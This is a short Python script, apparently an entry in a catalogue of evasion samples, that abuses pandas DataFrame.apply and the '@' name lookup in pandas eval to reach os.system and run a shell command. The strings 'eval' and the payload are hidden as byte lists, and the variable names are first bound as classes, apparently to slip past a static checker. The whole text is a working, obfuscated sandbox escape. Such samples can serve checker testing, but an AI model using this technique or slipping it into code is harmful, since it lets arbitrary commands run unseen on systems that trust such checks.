# source: pandas DataFrame.apply(str, args=...) -> apply_str -> DataFrame.eval; pandas eval '@name' resolves in pandas.core.apply globals (inspect -> os)
# family: name first bound by a class statement (trusted as "class of this script"), then rebound by plain assignment to a runtime string
# goal: os.system('id')
import pandas as pd

class Reducer:
    pass

class Spec:
    pass

Reducer = bytes([101, 118, 97, 108]).decode()
Spec = bytes([64, 105, 110, 115, 112, 101, 99, 116, 46, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 39, 41]).decode()
df = pd.DataFrame({"px": [1.0, 2.0]})
try:
    df.apply(Reducer, args=(Spec,))
except AttributeError:
    pass
